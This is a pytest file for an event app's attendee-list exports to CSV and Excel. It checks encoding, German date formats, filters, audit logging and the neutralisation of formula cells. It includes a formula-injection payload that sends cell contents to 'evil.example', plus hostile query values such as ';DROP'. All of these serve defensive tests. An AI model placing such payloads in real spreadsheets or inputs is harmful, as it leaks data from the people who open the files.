"""Exports of attendee lists, opened with real readers: Python's csv module (with the BOM,
as German Excel reads it) and openpyxl. What the filter shows is what the file holds."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from events.extensions import db
from events.models import AuditEntry, Registration
from events.services import exports, seats
from tests.conftest import applicant
from tests.pages_support import dated_workshops

NAME = "Jürgen Öztürk-Weiß"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


@pytest.fixture
def workshop(make_workshop):
    return dated_workshops(make_workshop)


@pytest.fixture
def listed(workshop):
    """A workshop with a confirmed Jürgen (health data given), a formula as a name, and two
    people on the waiting list (one from a municipality that starts with '-')."""
    w = workshop(capacity=1, title="Ankommen: Wohnen", slug="ankommen-wohnen")
    first = seats.register(w.id, applicant(1, name=NAME, remarks="+49 221 123",
                                           accessibility_needs="Gebärdensprache",
                                           accessibility_consent=True)).registration
    db.session.commit()
    seats.confirm(first.id)
    db.session.commit()
    for n, fields in ((2, {"name": EVIL}), (3, {"name": "Zoe Zett", "municipality": "-Kreis"}),
                      (4, {"name": "@Anna", "role": "+Leitung"})):
        seats.register(w.id, applicant(n, **fields))
        db.session.commit()
    return w


def _csv(response) -> list[list[str]]:
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf"), "no BOM: Excel would garble the umlauts"
    assert b"\r\n" in body and b"\n" not in body.replace(b"\r\n", b"")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def _xlsx(response):
    return load_workbook(io.BytesIO(response.data)).active


def test_csv_opens_as_german_excel_reads_it(organiser_client, listed):
    response = organiser_client.get(f"/organiser/teilnehmende/workshop/{listed.id}/export"
                                    "?format=csv&sort=name")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    day = listed.starts_at.astimezone(timezone(timedelta(hours=1))).date()  # winter: UTC+1
    assert disposition.startswith("attachment;")
    assert f"teilnehmende-ankommen-wohnen-{day.isoformat()}.csv" in disposition
    rows = _csv(response)
    header, body = rows[0], rows[1:]
    assert header[:5] == ["Name", "E-Mail", "Kommune", "Funktion", "Status"]
    assert not any("Barrierefreiheit" in cell for cell in header)  # only when asked for
    by_name = {row[0]: row for row in body}
    assert NAME in by_name and by_name[NAME][4] == "Bestätigt"
    assert by_name[NAME][header.index("Anmerkungen")] == "'+49 221 123"
    registered = by_name[NAME][header.index("Angemeldet am")]
    assert datetime.strptime(registered, "%d.%m.%Y %H:%M")  # TT.MM.JJJJ HH:MM
    assert "'" + EVIL in by_name  # neutralised, not run
    assert by_name["'@Anna"][3] == "'+Leitung"
    assert by_name["Zoe Zett"][2] == "'-Kreis"
    assert [row[0] for row in body] == sorted((row[0] for row in body), key=str.lower)


def test_csv_dates_are_local_time(app, organiser_client, listed):
    registration = db.session.scalar(select(Registration).order_by(Registration.id))
    registration.requested_at = datetime(2027, 7, 1, 22, 30, tzinfo=timezone.utc)  # summer
    db.session.commit()
    rows = _csv(organiser_client.get(
        f"/organiser/teilnehmende/workshop/{listed.id}/export?format=csv"))
    column = rows[0].index("Angemeldet am")
    assert "02.07.2027 00:30" in [row[column] for row in rows[1:]]


def test_xlsx_has_a_frozen_bold_header_widths_and_date_cells(organiser_client, listed):
    response = organiser_client.get(f"/organiser/teilnehmende/workshop/{listed.id}/export"
                                    "?format=xlsx&gesundheitsdaten=1")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert ".xlsx" in response.headers["Content-Disposition"]
    sheet = _xlsx(response)
    header = [cell.value for cell in sheet[1]]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= 20
    assert header[-1] == str(exports.HEALTH_HEADER)
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    jurgen = rows[NAME]
    assert jurgen[-1] == "Gebärdensprache"
    registered = jurgen[header.index("Angemeldet am")]
    assert isinstance(registered, datetime) and registered.tzinfo is None
    date_cell = sheet.cell(row=2, column=header.index("Angemeldet am") + 1)
    assert date_cell.is_date and "DD.MM.YYYY" in date_cell.number_format
    assert "'" + EVIL in rows and rows["'" + EVIL][0].startswith("'=")
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula anywhere
    entry = db.session.scalars(select(AuditEntry).where(
        AuditEntry.action == "attendees.export")).one()
    assert entry.after["health_data"] is True and entry.after["rows"] == 4
    assert entry.after["format"] == "xlsx" and entry.object_id == listed.id


def test_export_follows_the_filter_across_all_pages(organiser_client, listed, workshop):
    other = workshop(capacity=100, title="Zweiter Workshop")
    for n in range(10, 75):
        seats.register(other.id, applicant(n, municipality="Übach-Palenberg"))
        db.session.commit()
    response = organiser_client.get("/organiser/teilnehmende/export?format=xlsx"
                                    "&q=%C3%BCBACH&sort=name&dir=desc&page=2")
    sheet = _xlsx(response)
    header = [cell.value for cell in sheet[1]]
    assert header[:2] == ["Workshop", "Workshop-Beginn"]  # the programme's list
    names = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(names) == 65  # every page of the filter, not the 2nd page alone
    assert names == sorted(names, reverse=True)
    waiting = _csv(organiser_client.get(
        f"/organiser/teilnehmende/workshop/{listed.id}/export?status=waitlisted"))
    assert sorted(row[0] for row in waiting[1:]) == sorted(["'" + EVIL, "Zoe Zett", "'@Anna"])
    assert [row[7] for row in waiting[1:]] == ["1", "2", "3"]  # waitlist places
    entries = db.session.scalars(select(AuditEntry).where(
        AuditEntry.action == "attendees.export").order_by(AuditEntry.id)).all()
    assert [e.after["rows"] for e in entries] == [65, 3]
    assert entries[0].after["filter"]["q"] == "üBACH"
    assert entries[1].after["filter"]["status"] == "waitlisted"


@pytest.mark.backends
def test_exports_of_hostile_filters_are_files_not_errors(app, organiser_client, workshop):
    w = workshop(capacity=1)
    seats.register(w.id, applicant(1, name=NAME))
    db.session.commit()
    for fmt in ("csv", "xlsx", "pdf", ""):
        for params in ("q=%00", "sort=;DROP", "page=-1", "q=%F0%9F%98%80", "status=x"):
            response = organiser_client.get(
                f"/organiser/teilnehmende/workshop/{w.id}/export?format={fmt}&{params}")
            assert response.status_code == 200, (fmt, params)
            assert response.headers["Content-Disposition"].startswith("attachment;")


def test_neutralise_covers_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.neutralise(start + "1+1") == "'" + start + "1+1"
    assert exports.neutralise("Köln") == "Köln"
    assert exports.neutralise("") == ""
